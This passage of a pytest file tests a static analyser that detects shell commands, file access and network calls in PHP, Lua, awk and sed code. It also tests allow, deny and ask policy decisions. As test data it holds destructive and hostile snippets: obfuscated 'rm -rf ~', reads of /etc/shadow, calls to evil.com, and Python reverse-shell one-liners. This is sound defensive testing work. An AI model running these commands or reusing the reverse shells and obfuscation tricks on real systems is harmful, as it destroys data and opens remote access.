        ("fopen('/tmp/x', 'w');", [], [("write", "/tmp/x", False)], M, False),
        ("file_put_contents('/var/www/x.php', $d);", [], [("write", "/var/www/x.php", False)], M, False),
        ("file_get_contents('http://evil.com/a');", [], [("network", "evil.com", False)], M, False),
        ("file_get_contents('/etc/passwd');", [], [("read", "/etc/passwd", False)], L, False),
        (
            "$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, 'https://evil.com/'); curl_exec($ch);",
            [],
            [("network", "evil.com", False)],
            M,
            False,
        ),
        ("curl_setopt($ch, CURLOPT_TIMEOUT, 5);", [], [], L, False),
        ("fsockopen('10.0.0.1', 4444);", [], [("network", "10.0.0.1", False)], M, False),
        ("echo 'system(\"id\")'; // system('x')\n# exec('y')", [], [], L, False),
    ],
)
def test_php(src, commands, effects, risk, opaque):
    check(analyse_code("php", src), commands, effects, risk, opaque)


# ------------------------------------------------------------------------------------------- lua

RM = "rm -rf ~"


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        # spawning, in every spelling of a call
        ('os.execute("rm -rf ~")', [RM], [], L, False),
        ("os.execute('rm -rf ~')", [RM], [], L, False),
        ('os.execute "rm -rf ~"', [RM], [], L, False),
        ("os.execute[[rm -rf ~]]", [RM], [], L, False),
        ("os.execute [==[rm -rf ~]==]", [RM], [], L, False),
        ("os.execute(\n[[\nrm -rf ~]])", [RM], [], L, False),
        ('os.execute\n("rm -rf ~")', [RM], [], L, False),
        ('os . execute ( "rm -rf ~" )', [RM], [], L, False),
        ('io.popen("ls -l"):read("*a")', ["ls -l"], [], L, False),
        ('local p = io.popen("sh", "w") p:write("rm -rf ~")', ["sh"], [], H, False),
        ('require("posix").exec("/bin/rm", {"-rf", "/x"})', [("/bin/rm", "-rf", "/x")], [], L, False),
        ('local unistd = require "posix.unistd"; unistd.execp("rm", {"-rf", "/x"})', [("rm", "-rf", "/x")], [], L, False),
        # strings: escapes, concatenation, names bound to literals
        ('os.execute("\\114\\109 -rf ~")', [RM], [], L, False),
        ('os.execute("\\x72\\x6d -rf ~")', [RM], [], L, False),
        ('os.execute("r\\z\n     m -rf ~")', [RM], [], L, False),
        ('os.execute("rm " .. "-rf " .. "~")', [RM], [], L, False),
        ('local c = "rm -rf ~"\nos.execute(c)', [RM], [], L, False),
        ('local c = "rm -rf " .. "~" os.execute(c)', [RM], [], L, False),
        ('local a, b = "ls", "rm -rf ~"; os.execute(b)', [RM], [], L, False),
        ('local x = os.execute; x(\'id\')', ["id"], [], L, False),
        ('local o = require("os"); o.execute("id")', ["id"], [], L, False),
        # the global table and what returns it
        ('_G["os"]["execute"]("id")', ["id"], [], L, False),
        ('_G.os.execute("id")', ["id"], [], L, False),
        ('_ENV.os["exe" .. "cute"]("id")', ["id"], [], L, False),
        ('os ["execute"] ("id")', ["id"], [], L, False),
        ('rawget(_G, "os").execute("id")', ["id"], [], L, False),
        ('getfenv().os.execute("id")', ["id"], [], L, False),
        ('package.loaded.os.execute("id")', ["id"], [], L, False),
        # calls through pcall, and functions passed as values
        ('pcall(os.execute, "rm -rf ~")', [RM], [], L, False),
        ('xpcall(os.execute, debug.traceback, "rm -rf ~")', [RM], [], L, False),
        ('local ok, f = pcall(io.popen, "id")', ["id"], [], L, False),
        ('local function run(f, c) f(c) end run(os.execute, "rm -rf ~")', [], [], U, True),
        ('for _, f in ipairs({os.execute}) do f("id") end', [], [], U, True),
        ('string.gsub("rm -rf ~", ".+", os.execute)', [], [], U, True),
        ('local e = os.execute; coroutine.wrap(e)("id")', [], [], U, True),
        ('local t = {os}; t[1].execute("id")', [], [], U, True),
        ('setmetatable(env, {__index = _G}) load("x()", "c", "t", env)()', [], [], U, True),
        ('debug.getregistry()._LOADED.os.execute("id")', [], [], H, True),
        ('local o = os; o.execute("id")', ["id"], [], L, False),
        ('if c then (os.execute or print)("id") end', ["id"], [], U, True),
        # run-time values
        ("os.execute(cmd)", [], [], U, True),
        ('os.execute(("~ fr- mr"):reverse())', [], [], U, True),
        ('os.execute(string.char(114, 109))', [], [], U, True),
        ('function f(c) os.execute(c) end f("rm -rf ~")', [], [], U, True),
        ('c = "ls" function f(c) os.execute(c) end f("rm -rf ~")', [], [], U, True),
        ('local t = {c = "ls"} function f(c) os.execute(c) end f("rm -rf ~")', [], [], U, True),
        ('for _, c in ipairs({"ls"}) do os.execute(c) end', [], [], U, True),
        ('_G[k]("id")', [], [], U, True),
        # code run from strings, files and modules
        ('load("os.execute([[id]])")()', ["id"], [], L, False),
        ("loadstring('os.execute(\"id\")')()", ["id"], [], L, False),
        ("loadstring(x)()", [], [], H, True),
        ("load(function() return chunk end)()", [], [], H, True),
        ("require(name)", [], [], H, True),
        ("dofile(path)", [], [(("read", None, False))], H, True),
        ('dofile("config.lua")', [], [("read", "config.lua", False)], L, False),
        ('local ffi = require("ffi") ffi.cdef[[int system(const char *);]] ffi.C.system("id")', [], [], H, True),
        ('package.loadlib("/tmp/x.so", "luaopen_x")()', [], [], H, True),
        # files
        ('os.remove("/etc/passwd")', [], [("delete", "/etc/passwd", False)], M, False),
        ('os.rename("a", "/etc/b")', [], [("delete", "a", False), ("write", "/etc/b", False)], M, False),
        ('io.open("/etc/hosts", "w"):write("x")', [], [("write", "/etc/hosts", False)], M, False),
        ('local f = assert(io.open("out.txt", "a+")) f:write("x") f:close()', [], [("write", "out.txt", False)], M, False),
        ('io.output("log.txt") io.write("x")', [], [("write", "log.txt", False)], M, False),
        ('require("lfs").rmdir("/srv/data")', [], [("delete", "/srv/data", False)], M, False),
        # network
        ('local s = require("socket"); s.connect("evil.example", 80)', [], [("network", "evil.example", False)], M, False),
        ('local socket = require "socket"; local t = socket.tcp(); t:connect("1.2.3.4", 9)', [], [("network", "1.2.3.4", False)], M, False),
        ('local http = require("socket.http"); print(http.request("http://evil.example/x"))', [], [("network", "evil.example", False)], M, False),
        ('require("socket.http").request{url = "https://evil.example/", sink = s}', [], [("network", "evil.example", False)], M, False),
        # comments and strings hide nothing, and show nothing
        ('--[[ os.execute("rm -rf ~") ]] print(1)', [], [], L, False),
        ('--[==[ ]] os.execute("rm -rf ~") ]==] print(1)', [], [], L, False),
        ('-- os.execute("rm -rf ~")\nprint(1)', [], [], L, False),
        ('print("--[[") os.execute("id")', ["id"], [], L, False),
        ('print([[ ]] .. "]]") os.execute("id")', ["id"], [], L, False),
        ('--[ not a long comment\nos.execute("id")', ["id"], [], L, False),
    ],
)
def test_lua(src, commands, effects, risk, opaque):
    check(analyse_code("lua", src), commands, effects, risk, opaque)


# ------------------------------------------------------------------------------------------- awk


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        # system() runs a shell string
        ('BEGIN{system("rm -rf ~")}', [RM], [], L, False),
        ('BEGIN { system ("rm -rf ~") }', [RM], [], L, False),
        ('BEGIN { system("r" "m -rf " "~") }', [RM], [], L, False),
        ('BEGIN { system(("rm -rf") " ~") }', [RM], [], L, False),
        ('BEGIN { system("rm -rf /tmp/" 1) }', ["rm -rf /tmp/1"], [], L, False),
        ('BEGIN { system("\\162\\155 -rf ~") }', [RM], [], L, False),
        ('{ system("echo " $1) }', [], [], U, True),
        ("BEGIN { system(cmd) }", [], [], U, True),
        ('BEGIN { cmd = "date"; system(cmd) }', [], [], U, True),
        ('function run(c) { system(c) } BEGIN { run("rm -rf ~") }', [], [], U, True),
        # print | cmd, print |& cmd: a shell string
        ('{print | "sh"}', ["sh"], [], H, False),
        ('{ print $1 | "sort -u" }', ["sort -u"], [], L, False),
        ('{ printf("%s\\n", $2) | "rm -rf ~" }', [RM], [], L, False),
        ('{ print $0 |& "bash -c id" }', ["bash -c id"], [], L, False),
        ('{ print | cmd }', [], [], U, True),
        ('{ print | "xargs " $1 }', [], [], U, True),
        # cmd | getline: a shell string
        ('"cmd" | getline', ["cmd"], [], L, False),
        ('BEGIN { "rm -rf ~" | getline line; print line }', [RM], [], L, False),
        ('BEGIN { while (("ls -l" | getline line) > 0) n++ }', ["ls -l"], [], L, False),
        ('BEGIN { "id" |& getline }', ["id"], [], L, False),
        ('BEGIN { cmd = "date"; cmd | getline d }', [], [], U, True),
        ('{ ("ls " $1) | getline x }', [], [], U, True),
        # print > file and >> file write; getline < file reads
        ('{print $0 > "/etc/x"}', [], [("write", "/etc/x", False)], M, False),
        ('{ print >> "/home/user/.bashrc" }', [], [("write", "/home/user/.bashrc", False)], M, False),
        ('{ printf "%s", $1 > "out.txt" }', [], [("write", "out.txt", False)], M, False),
        ('{ print $1 > "out_" $2 ".txt" }', [], [("write", None, False)], M, False),
        ('{ if ($1 > 5) print $2 > "big"; else print $2 > "small" }', [], [("write", "big", False), ("write", "small", False)], M, False),
        ('BEGIN { getline line < "/etc/shadow"; print line }', [], [("read", "/etc/shadow", False)], L, False),
        ("BEGIN { while ((getline l < ARGV[1]) > 0) print l }", [], [("read", None, False)], L, False),
        # gawk: network files, extensions, includes, indirect calls
        ('BEGIN { print "x" |& "/inet/tcp/0/evil.example/80" }', [], [("network", "evil.example", False)], M, False),
        ('BEGIN { "/inet/tcp/0/1.2.3.4/9" |& getline }', [], [("network", "1.2.3.4", False)], M, False),
        ('@load "filefuncs"\nBEGIN { chdir("/") }', [], [], H, True),
        ('@include "lib.awk"\nBEGIN { f() }', [], [], U, True),
        ('BEGIN { f = "system"; @f("rm -rf ~") }', [], [], U, True),
        # comments, strings and regex literals hide nothing, and show nothing
        ('# system("rm -rf ~")\n{ print }', [], [], L, False),
        ('{ print "system(\\"rm -rf ~\\")" }', [], [], L, False),
        ('/system\\("x"\\)/ { print }', [], [], L, False),
        ('{ print "a|b" }', [], [], L, False),
        # "/" divides after a value and starts a regex elsewhere
        ('BEGIN { x = 4; y = x / 2; system("rm -rf ~"); z = x / 2 }', [RM], [], L, False),
        ('BEGIN { n = split($0, a) / 2; system("id"); m = n / 2 }', ["id"], [], L, False),
        ('$1 ~ /a"b/ { system("id") }', ["id"], [], L, False),
        ('!/"/ && /x/ { system("id") }', ["id"], [], L, False),
    ],
)
def test_awk(src, commands, effects, risk, opaque):
    check(analyse_code("awk", src), commands, effects, risk, opaque)


# ------------------------------------------------------------------------------------------- sed


@pytest.mark.parametrize(
    "src, commands, effects, risk, opaque",
    [
        # e runs a command; e alone and the e flag of s run the pattern space
        ("e rm -rf ~", [RM], [], L, False),
        ("1e rm -rf ~", [RM], [], L, False),
        ("/x/ e rm -rf ~", [RM], [], L, False),
        ("$!{e rm -rf ~\n}", [RM], [], L, False),
        ("p;e rm -rf ~", [RM], [], L, False),
        ("e", [], [], U, True),
        ("s/x/rm -rf ~/e", [RM], [], U, True),
        ("s/.*/rm -rf ~/e", [RM], [], L, False),
        ("s|^.*$|rm -rf ~|e", [RM], [], L, False),
        ("s/.*/rm\\t-rf ~/e", ["rm\t-rf ~"], [], L, False),
        ("s/^/echo /e", ["echo"], [], U, True),
        ("s/.*/& -rf ~/e", [], [], U, True),
        ("s/\\(.*\\)/rm \\1/e", [], [], U, True),
        ("s/a/b/ge", ["b"], [], U, True),
        # w, W and the w flag of s write; r and R read
        ("w /etc/passwd", [], [("write", "/etc/passwd", False)], M, False),
        ("1,5W out.txt", [], [("write", "out.txt", False)], M, False),
        ("s/a/b/w out", [], [("write", "out", False)], M, False),
        ("s/a/b/gw /home/user/.bashrc", [], [("write", "/home/user/.bashrc", False)], M, False),
        ("w out; p", [], [("write", "out; p", False)], M, False),
        ("r /etc/shadow", [], [("read", "/etc/shadow", False)], L, False),
        ("$R /etc/shadow", [], [("read", "/etc/shadow", False)], L, False),
        ("/x/{r /etc/shadow\n}", [], [("read", "/etc/shadow", False)], L, False),
        ("w /dev/stdout", [], [], L, False),
        ("s/a/b/w /dev/stderr", [], [], L, False),
        # what looks like a command but is text: nothing
        ("a e rm -rf ~", [], [], L, False),
        ("i\\\nw /etc/passwd", [], [], L, False),
        ("s/e rm/w x/", [], [], L, False),
        ("y/ew/we/", [], [], L, False),
        ("# e rm -rf ~\np", [], [], L, False),
        (":e\nb e", [], [], L, False),
        # scripts sed would refuse: opaque
        ("s/a/b", [], [], U, True),
        ("k", [], [], U, True),
        ("{p", [], [], U, True),
        ("p}", [], [], U, True),
        ("s/a/b/x", [], [], U, True),
        ("w", [], [], U, True),
    ],
)
def test_sed(src, commands, effects, risk, opaque):
    check(analyse_code("sed", src), commands, effects, risk, opaque)


# ------------------------------------------------------------- lua, awk and sed, end to end


@pytest.fixture(scope="module")
def execute_policy() -> Any:
    import policylang

    return policylang.load(preset="execute")


@pytest.mark.parametrize(
    "command, decision",
    [
        ("lua -e 'os.execute(\"rm -rf ~\")'", "deny"),
        ("luajit -e 'os.execute(\"rm -rf ~\")'", "deny"),
        ("lua5.4 -e 'io.popen(\"rm -rf ~\")'", "deny"),
        ("lua -e 'pcall(os.execute, \"rm -rf ~\")'", "deny"),
        ("lua -e 'os.remove(\"/etc/passwd\")'", "deny"),
        ("lua -e 'print(1)'", "allow"),
        ("lua -e 'for i = 1, 3 do print(i) end'", "allow"),
        ("lua -e 'os.execute(\"ls\")'", "allow"),
        ("lua -e 'os.execute(cmd)'", "ask"),
        ("awk 'BEGIN{system(\"rm -rf ~\")}'", "deny"),
        ("awk '{print | \"sh\"}' f", "deny"),
        ("awk '{print $0 > \"/etc/x\"}' f", "deny"),
        ("awk 'BEGIN { \"rm -rf ~\" | getline }'", "deny"),
        ("awk -e 'BEGIN { system(\"rm -rf ~\") }'", "deny"),
        ("awk '{print $1}' f", "allow"),
        ("awk -F: '{print $1}' /etc/passwd", "allow"),
        ("awk 'NR>1 {s+=$2} END {print s}' f", "allow"),
        ("awk 'BEGIN { \"date\" | getline d; print d }'", "allow"),
        ("awk '{print > \"out.txt\"}' f", "allow"),
        ("sed 'e rm -rf ~' f", "deny"),
        ("sed 's/x/rm -rf ~/e' f", "deny"),
        ("sed -n 'w /etc/passwd' f", "deny"),
        ("sed 's/a/b/w /etc/passwd' f", "deny"),
        ("sed 'r /etc/shadow' f", "deny"),
        ("sed -e p -e 'e rm -rf ~' f", "deny"),
        ("printf 'e rm -rf ~\\n' > s.sed && sed -f s.sed f", "deny"),
        ("sed -i 's/a/b/' f", "allow"),
        ("sed -n '1,10p' f", "allow"),
        ("sed 's/foo/bar/g' f", "allow"),
        ("sed -E 's/(x)+/\\1/' f", "allow"),
        ("sed 's/.*/date/e' f", "allow"),
        ("sed 's/^/echo /e' f", "ask"),
    ],
)
def test_lua_awk_and_sed_commands(execute_policy: Any, command: str, decision: str) -> None:
    import policylang

    v = execute_policy.decide(policylang.Command(command, cwd="/home/user/project", env={"HOME": "/home/user"}))
    assert v.decision.label == decision, v.reasons


# ------------------------------------------------------------------------------- languages, bounds


@pytest.mark.parametrize(
    "name, expected",
    [
        ("python", "python"),
        ("python3", "python"),
        ("python3.11", "python"),
        ("/usr/bin/python2.7", "python"),
        ("py", "python"),
        ("pypy3", "python"),
        ("node", "node"),
        ("nodejs", "node"),
        ("javascript", "node"),
        ("perl", "perl"),
        ("perl5.36", "perl"),
        ("ruby", "ruby"),
        ("ruby3.2", "ruby"),
        ("php", "php"),
        ("php8.2", "php"),
        ("bash", "shell"),
        ("sh", "shell"),
        ("zsh", "shell"),
        ("lua", "lua"),
        ("luajit", "lua"),
        ("lua5.4", "lua"),
        ("/usr/bin/lua5.1", "lua"),
        ("tcl", None),
        ("", None),
    ],
)
def test_code_language(name, expected):
    assert code_language(name) == expected


@pytest.mark.parametrize("lang", ["shell", "bash", "sh"])
def test_shell_is_not_ours(lang):
    assert analyse_code(lang, "rm -rf /") == CodeFindings((), (), Risk.LOW, (), False)


def test_unknown_language_is_opaque():
    f = analyse_code("tcl", "exec rm -rf /")
    assert f.opaque and "tcl" in f.opaque_reason and f.risk is Risk.UNKNOWN


@pytest.mark.parametrize("lang", ["python", "node", "perl", "ruby", "php", "lua", "awk", "sed"])
def test_oversized_source_is_opaque(lang):
    f = analyse_code(lang, "x" * (MAX_SOURCE + 1))
    assert f.opaque and "KiB" in f.opaque_reason and f.risk is Risk.UNKNOWN


@pytest.mark.parametrize(
    "lang, src",
    [
        ("node", "(" * 50000 + ")" * 50000),
        ("node", "[" * 50000),
        ("perl", "system " * 40000 + "'x'"),
        ("ruby", "eval(" * 30000 + "'1'" + ")" * 30000),
        ("php", "system(" * 40000 + "'id'" + ")" * 40000),
        ("node", "'" + "\\" * 100000),
        ("perl", "q{" * 50000),
        ("ruby", "<<~A\n" * 30000),
        ("lua", "[==[" * 50000),
        ("lua", "--[[" * 50000),
        ("lua", "f " * 50000 + "'x'"),
        ("lua", "{" * 50000),
        ("awk", "(" * 50000 + '"x" | getline'),
        ("awk", '"x" ' * 50000 + "| getline"),
        ("awk", "print > " * 30000),
        ("sed", "{" * 50000 + "}" * 50000),
        ("sed", "s/a/b/;" * 30000),
        ("sed", "/" + "\\" * 100000),
    ],
)
def test_hostile_input_is_bounded(lang, src):
    f = analyse_code(lang, src)
    assert "internal error" not in f.opaque_reason


def _single_quoted(text: str) -> str:
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"


@pytest.mark.parametrize("lang", ["ruby", "perl", "php"])
@pytest.mark.parametrize("levels, found", [(1, True), (4, True), (5, False), (9, False)])
def test_nested_eval_is_bounded_in_scripts(lang, levels, found):
    src = "system('id')"
    for _ in range(levels):
        src = f"eval({_single_quoted(src)})"
    f = analyse_code(lang, src + ";")
    if found:
        check(f, ["id"], [], L, False)
    else:
        assert f.opaque and "nested more than" in f.opaque_reason and f.commands == ()


def test_tables_only_use_known_styles():
    data = tomllib.loads(resources.files("policylang.analysis.sourcecode").joinpath("data").joinpath("code.toml").read_text(encoding="utf-8"))
    spawn_styles = {
        "shell",
        "subprocess",
        "argv",
        "list_or_shell",
        "argv_or_shell",
        "program_args",
        "exec_list",
        "exec_varargs",
        "varargs",
        "fork",
        "pipe_open",
    }
    danger_styles = {"always", "code", "code_if_string", "import", "send", "preg_e", "invoke"}
    net_styles = {"url", "host", "address", "options", "port_host", "perl_socket"}
    for lang in data["languages"]:
        if lang == "shell":
            continue
        sec = data[lang]
        for name, spec in sec.get("spawn", {}).items():
            assert spec["style"] in spawn_styles, (lang, name)
        for name, spec in sec.get("files", {}).items():
            for eff in spec.get("effects", [spec]):
                assert eff["kind"] in ("read", "write", "delete", "open"), (lang, name)
        for name, spec in sec.get("network", {}).items():
            assert spec.get("style", "url") in net_styles, (lang, name)
        for name, spec in sec.get("dangerous", {}).items():
            assert spec.get("style", "always") in danger_styles, (lang, name)
    for level in data["risk"].values():
        Risk.parse(level)


# ---------------------------------------------------------------------------------- syntax specs


def _data_file(name: str) -> dict[str, Any]:
    package = resources.files("policylang.analysis.sourcecode")
    return tomllib.loads(package.joinpath("data").joinpath(name).read_text(encoding="utf-8"))


def test_every_tokenizer_language_has_a_syntax():
    languages = _data_file("code.toml")["languages"]
    tokenized = {lang for lang in languages if lang not in ("python", "shell", "sed")}
    assert set(syntaxes()) == tokenized
    assert not syntaxes()["awk"].grammar.member_ops  # awk's section is a lexer: its analyser is its own
    for lang in tokenized:
        for name in languages[lang]:
            assert code_language(name) == lang
            check(analyse_code(name, ""), [], [], L, False)


SYNTAX_LANGS = ["node", "perl", "ruby", "php", "lua", "awk"]  # the languages syntax.toml has a section for
LEXER_ONLY = ("awk",)  # those read by an analyser of their own over the lexer


def _broken(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    data = copy.deepcopy(_data_file("syntax.toml"))
    change(data)
    return data


@pytest.mark.parametrize(
    "data, message",
    [
        (_broken(lambda d: d["perl"]["lexer"].update(comments=["#"])), r"perl\.lexer: unknown key 'comments'"),
        (_broken(lambda d: d["perl"]["lexer"].update(slash_regex="yes")), r"perl\.lexer\.slash_regex: true or false"),
        (_broken(lambda d: d["node"]["grammar"].update(member_ops=".")), r"node\.grammar\.member_ops: a list"),
        (_broken(lambda d: d["node"]["grammar"].pop("member_ops")), r"node\.grammar: member_ops is not empty"),
        (_broken(lambda d: d.pop("ruby")), "ruby: the language has no syntax section"),
        (_broken(lambda d: d.update(tcl=d["ruby"])), "tcl: a syntax section for a language that code.toml does not"),
        (_broken(lambda d: d["php"].update(parser={})), "php: unknown table 'parser'"),
        (_broken(lambda d: d["perl"]["lexer"]["quote_words"].update(q={"kind": "text"})), r"quote_words\.q: kind"),
        (_broken(lambda d: d["perl"]["lexer"]["quote_words"].update(qw={"kind": "words"})), "needs its text"),
        (_broken(lambda d: d["ruby"]["lexer"]["percent_literals"].update(ww={"kind": "single"})), "one letter"),
        (_broken(lambda d: d["node"]["lexer"]["quotes"].update({"''": {}})), "a quote is one character"),
        (_broken(lambda d: d["node"]["lexer"]["quotes"]["'"].update(escapes="none")), 'escapes is "single"'),
        (_broken(lambda d: d["php"]["lexer"].update(code_interpolations=[{"open": "$("}])), 'holds the "{"'),
        (_broken(lambda d: d["php"]["lexer"]["heredoc"].update(bare_word="lower")), 'bare_word is "capitalised"'),
        (_broken(lambda d: d["perl"]["lexer"].update(heredoc=["<<"])), r"perl\.lexer\.heredoc: a table"),
        (_broken(lambda d: d["php"]["lexer"].pop("reopen_tag")), "close_tag and reopen_tag go together"),
        (_broken(lambda d: d["lua"]["lexer"].update(octal_escapes=True)), "octal_escapes and decimal_escapes exclude"),
        (_broken(lambda d: d["lua"]["lexer"].pop("long_brackets")), "long comments need long_brackets"),
        (_broken(lambda d: d["lua"]["lexer"].update(whitespace_escape="zz")), r"whitespace_escape: one character"),
        (_broken(lambda d: d["lua"]["grammar"].update(keywords="end")), r"lua\.grammar\.keywords: a list"),
        (_broken(lambda d: d["awk"].update(grammar={"member_ops": ["."]})), "awk: a language read by its own analyser"),
    ],
)
def test_a_syntax_table_that_does_not_validate_is_an_error(data, message):
    with pytest.raises(SpecError, match=message):
        load_syntaxes(data, SYNTAX_LANGS, lexer_only=LEXER_ONLY)


def test_the_shipped_syntax_tables_validate():
    specs = load_syntaxes(_data_file("syntax.toml"), SYNTAX_LANGS, lexer_only=LEXER_ONLY)
    assert specs == dict(syntaxes())
    assert specs["perl"].lexer.quote_words["qw"].kind == "words"
    assert specs["php"].grammar.member_ops == frozenset({"->", "?->", "::"})


def test_a_language_is_added_by_its_syntax_and_tables():
    """A language that is a copy of node's syntax and tables under another name reads like node."""
    syntax = load_syntaxes({"js2": _data_file("syntax.toml")["node"]}, ["js2"])["js2"]

    def analyse_into(lang: str, source: str, out: Out, depth: int, parent: object) -> None:
        assert lang == "js2"
        ScriptAnalyser(syntax, source, out, depth, parent if isinstance(parent, ScriptAnalyser) else None).run()

    src = (
        "const { execSync } = require('node:child_process');\n"
        "execSync(`ls -l ${'/tmp'}`); execSync('id')\n"
        "eval(\"require('fs').rmSync('/tmp/x', { recursive: true })\") // rm\n"
    )
    out = Out(Budget(), analyse_into)
    out.config = replace(out.config, langs={**out.config.langs, "js2": out.config.langs["node"]})
    analyse_into("js2", src, out, 0, None)
    found = out.finish()
    assert found == analyse_code("node", src)
    assert found.commands == ("id",) and found.effects == (("delete", "/tmp/x", True),)


# ------------------------------------------------------------------------------------ properties

LANGS = ["python", "node", "perl", "ruby", "php", "bash", "lua", "awk", "sed", "tcl"]
CODE_LANGS = ["python", "node", "perl", "ruby", "php", "lua", "awk", "sed"]
CODE_ALPHABET = st.sampled_from(
    list("abcxyz_$@%#'\"`\\/(){}[]<>;:,.=+-*|&!?~^ \n\t0123456789") + ["\x00", "é", "\u2028"]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lang=st.sampled_from(LANGS), src=st.text(max_size=300))
def test_any_text_never_raises(lang, src):
    f = analyse_code(lang, src)
    assert isinstance(f, CodeFindings) and isinstance(f.risk, Risk)
    assert "internal error" not in f.opaque_reason


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lang=st.sampled_from(CODE_LANGS), src=st.text(alphabet=CODE_ALPHABET, max_size=200))
def test_code_like_text_never_raises(lang, src):
    f = analyse_code(lang, src)
    assert "internal error" not in f.opaque_reason
    for kind, target, recursive in f.effects:
        assert kind in ("read", "write", "delete", "network") and isinstance(recursive, bool)
        assert target is None or isinstance(target, str)
    for cmd in f.commands:
        assert isinstance(cmd, str) or (isinstance(cmd, tuple) and all(isinstance(a, str) for a in cmd))


@settings(max_examples=200, deadline=None)
@given(
    lang=st.sampled_from(CODE_LANGS),
    snippets=st.lists(
        st.sampled_from(
            [
                "system('id')",
                "os.system('id')",
                "eval(",
                "exec(",
                "require('child_process')",
                ".execSync(",
                "`ls`",
                "'",
                '"',
                "(",
                ")",
                "{",
                "}",
                "[",
                "]",
                ";",
                "\n",
                "<<EOF\n",
                "EOF\n",
                "$x",
                "=",
                "#{",
                "${",
                "qx{",
                "%x(",
                "/",
                "//",
                "/*",
                "*/",
                "#",
                "import os\n",
                "  ",
                ",",
                "->",
                "::",
                ".",
            ]
        ),
        max_size=40,
    ),
)
def test_fragments_never_raise(lang, snippets):
    f = analyse_code(lang, "".join(snippets))
    assert "internal error" not in f.opaque_reason


COMMAND_TEXT = st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=0x2FF), min_size=1, max_size=60).filter(
    lambda s: s.strip() != ""
)


@settings(max_examples=200, deadline=None)
@given(cmd=COMMAND_TEXT)
def test_python_literal_commands_round_trip(cmd):
    assert analyse_code("python", f"import os\nos.system({cmd!r})").commands == (cmd,)
    argv = tuple(cmd.split(" ")) if cmd.split(" ")[0] else ("x",)
    assert analyse_code("python", f"import subprocess\nsubprocess.run({list(argv)!r})").commands == (argv,)


@settings(max_examples=200, deadline=None)
@given(cmd=COMMAND_TEXT)
def test_node_literal_commands_round_trip(cmd):
    src = f"require('child_process').execSync({json.dumps(cmd)})"
    assert analyse_code("node", src).commands == (cmd.strip() and cmd,)


@settings(max_examples=200, deadline=None)
@given(cmd=COMMAND_TEXT)
def test_perl_ruby_php_single_quoted_commands_round_trip(cmd):
    quoted = "'" + cmd.replace("\\", "\\\\").replace("'", "\\'") + "'"
    assert analyse_code("perl", f"system({quoted});").commands == (cmd,)
    assert analyse_code("ruby", f"system({quoted})").commands == (cmd,)
    assert analyse_code("php", f"system({quoted});").commands == (cmd,)


def _lua_quoted(text: str) -> str:
    """A Lua string literal: decimal escapes below 256, \\u{...} above."""
    out = []
    for ch in text:
        if ch.isascii() and ch.isprintable() and ch not in '"\\':
            out.append(ch)
        elif ord(ch) < 256:
            out.append(f"\\{ord(ch):03d}")  # three digits: Lua reads up to three
        else:
            out.append(f"\\u{{{ord(ch):x}}}")
    return '"' + "".join(out) + '"'


def _lua_long(text: str) -> str:
    """A Lua long string of the first level whose closer does not occur before the end."""
    level = 0
    while (text + "]" + "=" * level + "]").find("]" + "=" * level + "]") != len(text):
        level += 1
    return "[" + "=" * level + "[" + text + "]" + "=" * level + "]"


@settings(max_examples=200, deadline=None)
@given(cmd=COMMAND_TEXT)
def test_lua_literal_commands_round_trip(cmd):
    assert analyse_code("lua", f"os.execute({_lua_quoted(cmd)})").commands == (cmd,)
    assert analyse_code("lua", f"io.popen {_lua_long(cmd)}").commands == (cmd,)
    awk_quoted = '"' + cmd.replace("\\", "\\\\").replace('"', '\\"') + '"'
    assert analyse_code("awk", f"BEGIN {{ system({awk_quoted}) }}").commands == (cmd,)
    assert analyse_code("sed", f"1e {cmd}").commands == (cmd.strip(),)


@pytest.mark.parametrize("language, source, risk", [
    ("python", 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",9));'
               'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])', Risk.CRITICAL),
    ("python", 'import pty,socket,os;s=socket.socket();s.connect(("h",1));pty.spawn("/bin/bash")', Risk.CRITICAL),
    ("node", 'require("child_process").spawn("/bin/sh")', Risk.HIGH),
    ("python", 'import os; os.system("bash -c ls")', Risk.LOW),
    ("python", 'import subprocess; subprocess.run(["sh", "-c", "make"])', Risk.LOW),
])
def test_a_shell_started_without_a_script(language, source, risk):
    """A shell run with no command reads what the code gives it; with a socket, a reverse shell."""
    assert analyse_code(language, source).risk is risk


# ------------------------------------------------------------------ fail closed: unresolved callees
# A call whose callee cannot be resolved to a known name is opaque, never low; where a literal
# key or a folded string resolves it, the real name is judged by the tables instead.

O, C = "opaque", "command"  # what a row expects: an opaque finding, or these commands and not opaque

FAIL_CLOSED = [
    # python: code that does not parse
    ("python", "hello world", O, "does not parse"),
    ("python", "print 'hello'", O, "does not parse"),
    ("python", "print x", O, "does not parse"),
    ("python", 'exec "import os"', O, "does not parse"),
    ("python", "if x:\nprint(1)", O, "does not parse"),
    # python: callees resolved by a literal key or a folded string
    ("python", "import sys\nsys.modules['os'].system('rm -rf /')", C, ["rm -rf /"]),
    ("python", "import sys\nm = sys.modules['o' + 's']\nm.system('rm -rf /')", C, ["rm -rf /"]),
    ("python", "import os\nos.__dict__['system']('rm -rf /')", C, ["rm -rf /"]),
    ("python", "import os\nvars(os)['system']('id')", C, ["id"]),
    ("python", "import os\ngetattr(os, 'sys' + 'tem')('rm -rf /')", C, ["rm -rf /"]),
    ("python", "import os\nfn = getattr(os, 'sys' + 'tem')\nfn('rm -rf /')", C, ["rm -rf /"]),
    ("python", "import os, operator\noperator.methodcaller('system', 'rm -rf /')(os)", C, ["rm -rf /"]),
    ("python", "import os, operator\noperator.attrgetter('system')(os)('rm -rf /')", C, ["rm -rf /"]),
    ("python", "import os\n(f := os.system)('rm -rf /')", C, ["rm -rf /"]),
    ("python", "try:\n    import posix as m\nexcept ImportError:\n    import os as m\nm.system('rm -rf /')", C, ["rm -rf /"]),
    ("python", "import os, shutil\nm = os if c else shutil\nm.system('id')", C, ["id"]),
    # python: callees that cannot be resolved
    ("python", "import sys\nsys.modules[name].system('rm -rf /')", O, "sys.modules[name] looks up a name"),
